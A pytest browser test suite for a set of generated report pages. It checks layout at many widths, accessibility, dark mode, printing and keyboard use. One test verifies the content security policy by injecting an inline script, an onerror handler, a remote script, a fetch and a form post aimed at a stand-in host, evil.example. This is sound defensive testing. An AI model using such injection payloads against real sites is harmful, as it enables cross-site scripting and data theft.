"""Every page of the family in a real browser: alone, at any width and zoom, in the dark, on paper, for everyone."""

import json
from io import BytesIO

import pypdf
import pytest

from tests.browser.made import made_pages

NAMES = (
    "report",
    "one shard",
    "many shards",
    "ten thousand",
    "long names",
    "inconclusive",
    "not measured",
    "trend",
    "compare",
    "simulation",
)
FAMILY = ("report", "trend", "compare", "simulation")
# What sticks out of the window, and text that its own box cuts off; what scrolls by itself may be wider.
OUTSIDE = """[...document.querySelectorAll('body *')].filter(node => {
  const box = node.getBoundingClientRect();
  return box.width > 1 && box.right > document.documentElement.clientWidth + 1
    && !node.closest('.scroll') && !node.closest('.toc ol') && !node.closest('svg') && !node.closest('.sr');
}).slice(0, 5).map(node => `${node.tagName}.${node.className} ${node.innerText?.slice(0, 40)}`)"""
CUT = """[...document.querySelectorAll('h1, h2, h3, p, li, dt, dd, caption, th, td, figcaption, summary')]
  .filter(node =>
  getComputedStyle(node).position !== 'absolute' && node.scrollWidth > node.clientWidth + 1 && node.clientWidth > 0
  && !node.closest('.heat') && !node.querySelector('svg') && getComputedStyle(node).display !== 'inline'
).slice(0, 5).map(node => `${node.tagName}.${node.className} ${node.innerText.slice(0, 60)}`)"""
# Labels of one plot that lie over each other: pairs of texts whose boxes share more than a pixel.
COLLIDING = """[...document.querySelectorAll('svg.plane, svg.axis')].flatMap(plot => {
  const texts = [...plot.querySelectorAll('text')].map(text => [text, text.getBoundingClientRect()]);
  return texts.flatMap(([a, p], i) => texts.slice(i + 1).filter(([b, q]) =>
    Math.min(p.right, q.right) - Math.max(p.left, q.left) > 1
    && Math.min(p.bottom, q.bottom) - Math.max(p.top, q.top) > 3
  ).map(([b]) => `${a.textContent} | ${b.textContent}`));
}).slice(0, 5)"""
AXE = """axe.run().then(found => found.violations.filter(v => ['serious', 'critical'].includes(v.impact))
  .map(v => `${v.impact} ${v.id} ${v.nodes.length} times: ${v.nodes[0].html}`))"""

WINDOWS = ((1280, 1), (1280, 2), (1920, 1), (768, 1), (390, 1), (320, 1))  # pixels, zoom
# Tables that must be scrolled sideways to be read: none at the width of an ordinary screen.
SCROLLING = """[...document.querySelectorAll('.scroll')].filter(node => node.scrollWidth > node.clientWidth + 1
  && node.clientWidth > 0).slice(0, 5).map(node => `${node.ariaLabel} ${node.scrollWidth} in ${node.clientWidth}`)"""


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    folder = tmp_path_factory.mktemp("pages")
    for name, page in made_pages().items():
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in NAMES}


@pytest.mark.parametrize("name", NAMES)
def test_a_page_stands_alone_fits_every_window_and_can_be_read_by_everyone(files, show, axe, name):
    page = show(files[name])
    assert page.text("h1") and page.text("main")
    assert page.requests() == [] and page.wrong() == []
    for width, zoom in WINDOWS:
        page.resize(width, zoom=zoom)
        assert fits(page) == [], f"{width} pixels at {zoom:.0%}"
        assert width == 320 or page.run(COLLIDING) == [], f"{width} pixels at {zoom:.0%}"
        assert width / zoom < 1280 or page.run(SCROLLING) == [], f"{width} pixels at {zoom:.0%}"
    page.resize(1280)
    page.run("document.documentElement.style.fontSize = '200%'")
    assert fits(page) == [], "text alone at twice its size"
    page.run("document.documentElement.style.fontSize = ''")
    page.run("document.querySelectorAll('details').forEach(part => { part.open = true; })")
    for width in (1280, 390):
        page.resize(width)
        assert fits(page) == [], f"{width} pixels with everything unfolded"
    page.resize(1280)
    page.run(axe + ";0")
    for dark, paper in ((False, "rgb(255, 255, 255)"), (True, "rgb(17, 22, 27)")):
        page.prefer(dark=dark)
        assert page.run("getComputedStyle(document.body).backgroundColor") == paper
        assert page.run(AXE) == []


def fits(page) -> list[str]:
    """What sticks out of the window or is cut off by its own box."""
    wide = page.run("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    return [f"{wide} pixels too wide"] * (wide > 0) + page.run(OUTSIDE) + page.run(CUT)


@pytest.mark.parametrize("name", FAMILY)
def test_the_content_policy_lets_no_other_script_style_or_request_through(files, show, name):
    page = show(files[name])
    tries = {
        "an inline script": "const s = document.createElement('script'); s.textContent = 'window.broken = 1';"
        "document.body.append(s)",
        "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.broken = 1\">')",
        "a remote script": "const r = document.createElement('script'); r.src = 'https://evil.example/x.js';"
        "document.body.append(r)",
        "a link": "location.href = 'javascript:window.broken = 1'",
        "a request": "fetch('https://evil.example/').catch(() => 0)",
        "a style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
        "a form": "const f = document.createElement('form'); f.action = 'https://evil.example/';"
        "document.body.append(f); f.submit()",
    }
    for what, script in tries.items():
        before = page.run("window.violations.length")
        page.run(f"(() => {{ {script} }})()")
        page.run("new Promise(done => setTimeout(done, 50))")
        assert page.run("window.violations.length") > before, what
    assert page.run("window.broken") is None
    assert page.requests() == []
    with pytest.raises(RuntimeError, match="EvalError"):
        page.run("eval('1')")


@pytest.mark.parametrize("name", FAMILY)
def test_a_page_prints_on_paper_with_all_its_text(files, show, tmp_path, name):
    page = show(files[name], dark=True)
    title = page.text("h1")
    page.pdf(tmp_path / "page.pdf")
    printed = pypdf.PdfReader(BytesIO((tmp_path / "page.pdf").read_bytes()))
    text = " ".join(" ".join(sheet.extract_text() for sheet in printed.pages).split())
    assert 1 <= len(printed.pages) <= 24
    assert title in text and "Made by auditor" in text
    assert "Search shards" not in text, "controls are of no use on paper"
    width, height = (float(side) for side in printed.pages[0].mediabox[2:])
    assert (round(width), round(height)) in ((595, 842), (596, 842))


def test_a_printed_page_is_light_even_where_the_reader_prefers_dark(files, show):
    page = show(files["report"], dark=True)
    page.call("Emulation.setEmulatedMedia", media="print", features=[{"name": "prefers-color-scheme", "value": "dark"}])
    assert page.run("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"


@pytest.mark.parametrize("name", ["report", "many shards", "trend", "compare", "simulation"])
def test_without_javascript_the_essentials_stand_there(files, show, name):
    page = show(files[name], scripts=False)
    assert page.text("h1")
    if name not in ("trend", "compare", "simulation"):
        assert len(page.texts("#table tbody tr")) == (50 if name == "many shards" else 6)
        assert page.run("document.getElementById('controls').hidden")
        sections = [page.text(f"#{key} h2") for key in ("synthetic", "duplicates", "diversity", "do", "sure", "method")]
        assert all(sections)
    assert page.run("[...document.querySelectorAll('details')].every(part => part.querySelector('summary'))")


def test_every_figure_says_in_text_what_it_draws(files, show):
    page = show(files["report"])
    told = "plot.querySelector('title').textContent && plot.querySelector('desc').textContent"
    table = "plot.closest('figure').querySelector('table')"
    assert page.run(f"[...document.querySelectorAll('svg[role=img]')].every(plot => {told} && {table})")
    beside = "row.closest('tr').cells.length === 3"
    assert page.run(f"[...document.querySelectorAll('svg[aria-hidden]')].every(row => {beside})")


def test_the_keyboard_reaches_the_content_the_controls_and_every_scrolling_table(files, show):
    page = show(files["many shards"])
    page.press("Tab")
    assert page.run("document.activeElement.textContent") == "Skip to the content"
    page.press("Enter")
    assert page.run("document.activeElement.id") == "main"
    reached = set()
    for _ in range(160):
        page.press("Tab")
        reached.add(
            page.run(
                "document.activeElement.id || document.activeElement.ariaLabel || document.activeElement.textContent"
            )
        )
    assert {"search", "Table of shards", "Save these rows as CSV", "Next"} <= reached
    outline = json.loads(page.run("JSON.stringify([...document.querySelectorAll('h1, h2, h3')].map(h => h.tagName))"))
    assert outline[0] == "H1" and outline.count("H1") == 1


def test_a_tip_follows_the_pointer_and_leaves_with_escape(files, show):
    page = show(files["report"])
    page.run("document.querySelector('#years .reach').scrollIntoView({block: 'center'})")
    last = "[...document.querySelectorAll('#years .reach')].at(-1).getBoundingClientRect()"
    x, y = page.run(f"(box => [box.x + box.width / 2, box.y + box.height / 2])({last})")
    page.call("Input.dispatchMouseEvent", type="mouseMoved", x=x, y=y)
    assert page.text(".tip").startswith("2025: ") and "%" in page.text(".tip")
    page.press("Escape")
    assert page.run("document.querySelector('.tip').hidden")
